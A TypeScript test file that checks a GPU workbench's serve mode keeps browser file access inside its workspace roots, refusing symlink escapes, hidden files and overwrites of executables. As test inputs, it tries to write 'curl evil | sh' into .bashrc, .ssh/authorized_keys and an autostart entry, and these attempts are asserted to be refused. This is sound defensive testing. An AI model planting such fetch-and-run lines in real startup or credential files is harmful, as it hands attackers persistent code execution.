import assert from 'node:assert/strict';
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, realpathSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';

import type { Envelope } from '../../core/api/channels';
import { ROOT, runCli, SAMPLES } from '../helpers/cli';
import { startServe, type ServeProcess } from '../helpers/serve';
import { connectApi, type ServeApi } from '../helpers/serve-api';

// Issue 25, item 6: a serve token opens the workspace, not the machine. serve runs in a project folder under a
// home of the test's own; beside them, a folder that is no root holds a secret.
const work = realpathSync(mkdtempSync(join(tmpdir(), 'wb-workspace-')));
const home = join(work, 'home');
const project = join(home, 'project');
const extra = join(work, 'extra');
const outside = join(work, 'outside');
for (const dir of [project, extra, outside, join(home, '.ssh'), join(project, '.git')]) mkdirSync(dir, { recursive: true });
const BASHRC = 'echo the user’s own\n';
writeFileSync(join(home, '.bashrc'), BASHRC);
writeFileSync(join(outside, 'secret.txt'), 'the secret\n');
writeFileSync(join(project, 'kernel.cu'), '__global__ void k() {}\n');
const TOOL = '#!/bin/sh\necho the real tool\n';
writeFileSync(join(project, 'tool'), TOOL, { mode: 0o755 });
chmodSync(join(project, 'tool'), 0o755);
symlinkSync(join(outside, 'secret.txt'), join(project, 'link-out.cu'));
symlinkSync(outside, join(project, 'folder-out'));
writeFileSync(join(project, '.env.cu'), 'hidden\n');

const env = { HOME: home, GPU_WORKBENCH_STATE_DIR: join(work, 'state'), GPU_WORKBENCH_CACHE_DIR: join(work, 'cache') };

type Refusal = { ok: false; error: { code: string; message: string } };
function refused(envelope: Envelope<unknown>, code: string): string {
  assert.equal(envelope.ok, false, `expected a refusal (${code}), got ${JSON.stringify(envelope).slice(0, 300)}`);
  const { error } = envelope as Refusal;
  assert.equal(error.code, code, error.message);
  return error.message;
}
function answered<T>(envelope: Envelope<unknown>): T {
  assert.ok(envelope.ok, JSON.stringify(envelope).slice(0, 400));
  return (envelope as { value: T }).value;
}

const write = (api: ServeApi, path: string, text = 'written\n') => api.call('files.write', { path, text, expectedMtimeMs: null });

describe('serve started in a project folder, no --root', () => {
  let serve: ServeProcess;
  let api: ServeApi;
  before(async () => {
    serve = await startServe(env, 'cli', [], project);
    api = await connectApi(serve);
  });
  after(async () => {
    api.close();
    await serve.stop();
  });

  test('it prints its root and what the browser can do', () => {
    assert.match(
      serve.output(),
      new RegExp(`Files: the browser reads and writes only under ${project} \\(where serve was started\\); add a folder with --root`),
    );
    assert.match(serve.output(), /never writes programs or libraries, and never opens hidden files/);
    assert.match(serve.output(), /Programs: off: the browser runs only its kernels and the workbench’s own tools/);
  });

  test('app.info names the roots, and file boxes start in the project (the home folder is no root)', async () => {
    const info = answered<{ roots: string[]; startDir: string; homeDir: string }>(await api.call('app.info', {}));
    assert.deepEqual([info.roots, info.startDir, info.homeDir], [[project], project, home]);
    const listing = answered<{ dir: string; parent: string | null; entries: { name: string }[] }>(await api.call('files.list', { dir: null }));
    assert.equal(listing.dir, project);
    assert.equal(listing.parent, null, 'the project’s parent is not offered');
    assert.ok(listing.entries.some((e) => e.name === 'kernel.cu'));
  });

  test('a write outside the roots is refused, in words that name the root and --root', async () => {
    const said = refused(await write(api, join(home, '.bashrc'), 'curl evil | sh\n'), 'OUTSIDE_ROOTS');
    assert.match(
      said,
      new RegExp(
        `\\.bashrc is outside this workbench's folders\\. A browser reaches only files under ${project}\\. To reach another folder, start serve again with --root <folder>`,
      ),
    );
    assert.equal(readFileSync(join(home, '.bashrc'), 'utf8'), BASHRC);
    refused(await write(api, join(outside, 'new.cu')), 'OUTSIDE_ROOTS');
    refused(await write(api, join(extra, 'new.cu')), 'OUTSIDE_ROOTS');
    refused(await write(api, '/tmp/wb-workspace-outside.cu'), 'OUTSIDE_ROOTS');
    refused(await write(api, '../outside.cu'), 'OUTSIDE_ROOTS');
    assert.ok(!existsSync(join(outside, 'new.cu')) && !existsSync(join(extra, 'new.cu')) && !existsSync('/tmp/wb-workspace-outside.cu'));
    assert.ok(!existsSync(join(home, 'outside.cu')));
  });

  test('every other channel that writes is held to the roots too', async () => {
    const target = join(outside, 'out.json');
    refused(await api.call('plans.write', { path: target, plan: {} }), 'OUTSIDE_ROOTS');
    refused(await api.call('run.save', { path: target, outcomeId: 'run-gone' }), 'OUTSIDE_ROOTS');
    refused(await api.call('memory.export', { format: 'csv', path: target, timelineId: 'monitor:gone' }), 'OUTSIDE_ROOTS');
    refused(await api.call('bundle.export', { path: join(outside, 'b.zip'), plan: {}, outcomeId: 'run-gone', origin: 'x' }), 'OUTSIDE_ROOTS');
    refused(await api.call('diagnose.export', { id: 'abc', path: join(outside, 'd.zip') }), 'OUTSIDE_ROOTS');
    assert.ok(!existsSync(target));
  });

  test('a write over a program inside the root is refused, and the program is unchanged', async () => {
    const said = refused(await write(api, join(project, 'tool'), '#!/bin/sh\nid\n'), 'EXECUTABLE');
    assert.match(said, /tool is a program or a library \(it has an execute bit\): serve never writes one/);
    assert.equal(readFileSync(join(project, 'tool'), 'utf8'), TOOL);
    refused(await write(api, join(project, 'libevil.so')), 'EXECUTABLE');
    refused(await write(api, join(project, 'addon.node')), 'EXECUTABLE');
  });

  test('a new file is written without an execute bit', async () => {
    const done = answered<{ path: string }>(await write(api, join(project, 'new.cu')));
    assert.equal(done.path, join(project, 'new.cu'));
    assert.equal(statSync(join(project, 'new.cu')).mode & 0o111, 0);
  });

  test('a symlink inside the root that leads outside is refused, for reads and for writes', async () => {
    refused(await write(api, join(project, 'link-out.cu')), 'OUTSIDE_ROOTS');
    refused(await write(api, join(project, 'folder-out', 'new.cu')), 'OUTSIDE_ROOTS');
    assert.equal(readFileSync(join(outside, 'secret.txt'), 'utf8'), 'the secret\n');
    assert.ok(!existsSync(join(outside, 'new.cu')));
    refused(await api.call('files.read', { path: join(project, 'link-out.cu') }), 'OUTSIDE_ROOTS');
    refused(await api.call('files.list', { dir: join(project, 'folder-out') }), 'OUTSIDE_ROOTS');
  });

  test('reads outside the roots are refused, whatever channel reads', async () => {
    const secret = join(outside, 'secret.txt');
    refused(await api.call('files.read', { path: secret }), 'OUTSIDE_ROOTS');
    refused(await api.call('files.read', { path: join(home, '.bashrc') }), 'OUTSIDE_ROOTS');
    refused(await api.call('files.list', { dir: outside }), 'OUTSIDE_ROOTS');
    for (const channel of ['run.open', 'memory.open', 'bundle.open', 'plans.read', 'diagnose.open'])
      refused(await api.call(channel, { path: secret }), 'OUTSIDE_ROOTS');
    refused(await api.call('sanitize.open', { xmlPath: secret }), 'OUTSIDE_ROOTS');
    refused(await api.call('sanitize.open', { xmlPath: join(project, 'kernel.cu'), textPath: secret }), 'OUTSIDE_ROOTS');
  });

  test('a plan’s file initializer and a compile’s include folder outside the roots are refused', async () => {
    const plan = {
      version: 1,
      kernels: [{ id: 'k', entry: 'k', source: '__global__ void k(float*){}', options: { includePaths: [outside] } }],
      buffers: [{ name: 'a', type: 'u8', count: 8, init: { kind: 'file', path: join(outside, 'secret.txt') } }],
      steps: [{ op: 'alloc', buffer: 'a' }],
    };
    refused(await api.call('run.plan', { plan }), 'OUTSIDE_ROOTS');
    refused(await api.call('run.plan', { plan: { ...plan, buffers: [] } }), 'OUTSIDE_ROOTS');
    refused(await api.call('compile.run', { source: '#include "secret.txt"\n', sourceName: 'k.cu', options: { includePaths: [outside] } }), 'OUTSIDE_ROOTS');
  });

  test('hidden files inside the root are neither read nor written, nor read through a plan', async () => {
    refused(await api.call('files.read', { path: join(project, '.env.cu') }), 'HIDDEN_PATH');
    const said = refused(await write(api, join(project, '.git', 'hooks-pre-commit')), 'HIDDEN_PATH');
    assert.match(said, /is hidden \(\.git\): serve never reads or writes hidden files or folders/);
    writeFileSync(
      join(project, 'plan.json'),
      JSON.stringify({ version: 1, kernels: [{ id: 'k', entry: 'k', sourceFile: '.env.cu' }], buffers: [], steps: [] }),
    );
    refused(await api.call('plans.read', { path: join(project, 'plan.json') }), 'HIDDEN_PATH');
  });

  test('relative paths resolve against the folder serve runs in', async () => {
    assert.equal(answered<{ path: string }>(await write(api, 'relative.cu', 'rel\n')).path, join(project, 'relative.cu'));
    assert.equal(readFileSync(join(project, 'relative.cu'), 'utf8'), 'rel\n');
    assert.equal(answered<{ text: string }>(await api.call('files.read', { path: 'relative.cu' })).text, 'rel\n');
    assert.equal(answered<{ dir: string }>(await api.call('files.list', { dir: '.' })).dir, project);
  });

  test('the samples open, read-only; the workbench’s own files are never written', async () => {
    const sample = join(SAMPLES, 'vector-add/plan.json');
    assert.ok(answered<{ plan: unknown }>(await api.call('plans.read', { path: sample })).plan);
    const before = readFileSync(sample, 'utf8');
    refused(await api.call('plans.write', { path: sample, plan: {} }), 'READ_ONLY');
    assert.equal(readFileSync(sample, 'utf8'), before);
    refused(await api.call('files.read', { path: join(ROOT, 'package.json') }), 'OUTSIDE_ROOTS');
  });
});

describe('serve with --root: the folders given join the workspace; home as a root keeps its hidden files out', () => {
  let serve: ServeProcess;
  let api: ServeApi;
  before(async () => {
    serve = await startServe(env, 'npm-script', ['--root', extra, '--root', '..'], project);
    api = await connectApi(serve);
  });
  after(async () => {
    api.close();
    await serve.stop();
  });

  test('it prints every root; app.info names them and file boxes start at home', async () => {
    assert.match(serve.output(), new RegExp(`only under ${project} \\(where serve was started\\), ${extra}, ${home};`));
    const info = answered<{ roots: string[]; startDir: string }>(await api.call('app.info', {}));
    assert.deepEqual([info.roots, info.startDir], [[project, extra, home], home]);
  });

  test('files under a --root are written and read', async () => {
    assert.equal(answered<{ path: string }>(await write(api, join(extra, 'more.cu'), 'more\n')).path, join(extra, 'more.cu'));
    assert.equal(answered<{ text: string }>(await api.call('files.read', { path: join(extra, 'more.cu') })).text, 'more\n');
    answered(await write(api, join(home, 'notes.cu')));
    refused(await write(api, join(outside, 'more.cu')), 'OUTSIDE_ROOTS');
  });

  test('the home’s dot-files and dot-folders stay out of reach', async () => {
    for (const path of [join(home, '.bashrc'), join(home, '.ssh', 'authorized_keys'), join(home, '.config', 'autostart', 'x.desktop')])
      refused(await write(api, path, 'curl evil | sh\n'), 'HIDDEN_PATH');
    assert.equal(readFileSync(join(home, '.bashrc'), 'utf8'), BASHRC);
    assert.ok(!existsSync(join(home, '.ssh', 'authorized_keys')));
    refused(await api.call('files.read', { path: join(home, '.bashrc') }), 'HIDDEN_PATH');
  });
});

test('a --root that is not a folder stops serve at start, in words', async () => {
  const result = await runCli(['serve', '--port', '0', '--root', join(work, 'missing')], { env, timeoutMs: 20_000 });
  assert.equal(result.code, 64);
  assert.match(result.stderr, /--root .*missing: does not exist\. Give a folder the browser may read and write under\./);
});
